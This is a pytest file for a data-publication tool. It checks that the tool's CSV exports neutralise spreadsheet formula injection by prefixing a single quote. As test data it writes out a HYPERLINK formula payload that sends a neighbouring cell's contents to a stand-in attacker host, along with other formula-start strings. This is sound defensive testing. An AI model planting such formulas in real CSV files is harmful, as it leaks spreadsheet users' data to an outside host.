"""Finding of issue 15 (medium): CSV output is not neutralised against spreadsheet formulas.

The attack: text that reaches a CSV export — a value in a source file, a category label, the
result of `meedoen sql --format csv "SELECT '=HYPERLINK(...)'"` — was written as it was. Opened
in a spreadsheet, `=HYPERLINK("https://evil.example/?"&A2,"klik")` became a live link that
sends the neighbouring cell away when clicked (OWASP "CSV injection"; `+`, `-`, `@`, a leading
tab or carriage return do the same).

Now every CSV writer goes through one helper (`meedoen_data.csvsafe`): a text cell that starts
with `=`, `+`, `-`, `@`, tab or carriage return gets a single quote in front, which spreadsheets
show as text; numbers (also negative ones) stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from meedoen_data.csvsafe import csv_cell, csv_writer
from meedoen_data.disclosure import Cell, Dimension, Rules, Table, publication_protect, release_csv
from tests.helpers import demo_copy, meedoen_as, passwords

LINK = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
STARTS = [LINK, "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", STARTS)
def test_a_formula_start_is_neutralised(value: str) -> None:
    assert csv_cell(value) == "'" + value
    out = io.StringIO()
    csv_writer(out).writerow([value, "Totaal"])
    assert rows(out.getvalue()) == [["'" + value, "Totaal"]]


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow([-5, 3.25, 0, None, "WK078400", "x", "a=b"])
    assert out.getvalue() == "-5,3.25,0,,WK078400,x,a=b\n"


def test_a_published_table_with_a_formula_label() -> None:
    """A category label from the data (here a forged wijk code) reaches release_csv."""
    wijk = Dimension.flat("wijkcode", [LINK, "WK078401"])
    table = Table.from_leaves("t", [wijk], {(LINK,): Cell(40), ("WK078401",): Cell(60)})
    text = release_csv(publication_protect([table], Rules(group={})))
    assert rows(text) == [["wijkcode", "households"], ["Totaal", "100"], ["'" + LINK, "40"],
                          ["WK078401", "60"]]  # fmt: skip
    assert "\n=" not in text and ",=" not in text


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    home = str(tmp_path_factory.mktemp("csv") / "demo")
    result = demo_copy(Path(home))
    return {"home": home, "activity": str(result["activity"]["id"]), **passwords(result)}


def test_sql_csv_output_is_neutralised(demo: dict[str, Any]) -> None:
    query = "SELECT '" + LINK.replace("'", "''") + "' AS link, '@cmd' AS at, -5 AS n, 2.5 AS m"
    result = meedoen_as(
        "analyst", demo["analyst"], "sql", "--activity", demo["activity"], "--format", "csv",
        "--home", demo["home"], query,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert rows(result.stdout) == [["link", "at", "n", "m"], ["'" + LINK, "'@cmd", "-5", "2.5"]]


def test_table_csv_output_is_plain_numbers_and_codes(demo: dict[str, Any]) -> None:
    """`meedoen table --format csv` writes through the same helper: codes and numbers as they
    are (nothing to neutralise in the demo's codes), x for a hidden cell."""
    result = meedoen_as(
        "analyst", demo["analyst"], "table", "wijkcode", "household_type", "--activity",
        demo["activity"], "--home", demo["home"],
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    table = rows(result.stdout)
    assert table[0] == ["wijkcode", "household_type", "households"]
    assert all(r[2] == "x" or r[2].isdigit() for r in table[1:])
    assert not any(cell.startswith("'") for r in table for cell in r)
